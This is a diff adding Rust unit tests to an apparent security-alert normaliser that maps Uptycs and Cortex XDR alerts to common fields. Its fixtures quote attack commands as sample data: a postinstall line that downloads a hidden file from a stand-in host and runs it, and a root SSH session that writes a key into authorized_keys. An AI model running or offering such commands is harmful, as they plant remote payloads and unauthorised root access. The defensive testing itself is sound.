@@ -8152,5 +8152,28 @@ mod tests {
             get(&a, "process.command_line"),
             "/bin/bash /tmp/PKInstallSandbox.x/Scripts/p/postinstall\ncurl -sL https://e.example/h -o /Users/Shared/.h\n/Users/Shared/.h -d"
         );
+        // Uptycs: an alert known by its asset's host name alone (no asset id), the command
+        // line the rule matched in `key`/`value`, the script it fed over stdin quoted.
+        let up = json!({"alertTime": "2026-02-19T21:40:09.000Z", "id": "u2", "code": "SSH", "assetHostName": "mbp-2",
+            "key": "cmdline", "value": "ssh root@10.0.0.9 bash -s",
+            "metadata": {"pid": "9", "ppid": "8", "username": "p", "parent_cmdline": "/bin/zsh /Users/p/.local/bin/.s",
+                "ancestor_list": "[{\"name\":\"zsh\",\"pid\":8,\"cmdline\":\"/bin/zsh /Users/p/.local/bin/.s\"}]",
+                "script_excerpt": "echo k >> /root/.ssh/authorized_keys"}});
+        let a = from_json(up, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "ssh root@10.0.0.9 bash -s\necho k >> /root/.ssh/authorized_keys"
+        );
+        assert_eq!(get(&a, "host.name"), "mbp-2");
+        // Cortex XDR: the connection's host name from the DNS query recorded beside it.
+        let cx = json!({"alert_id": "5", "host_name": "ws-1", "os_type": "AGENT_OS_WINDOWS", "source": "XDR BIOC",
+            "actor_process_image_name": "node.exe", "actor_process_command_line": "node npm-cli.js ci",
+            "action_process_image_name": "cmd.exe", "action_process_image_command_line": "cmd.exe /d /s /c \"node-gyp rebuild\"",
+            "action_remote_ip": "10.60.1.25", "action_remote_port": 443, "dns_query_name": "artifactory.dev.example.local"});
+        let a = from_json(cx, "x").unwrap();
+        assert_eq!(
+            get(&a, "destination.domain"),
+            "artifactory.dev.example.local"
+        );
     }
 }
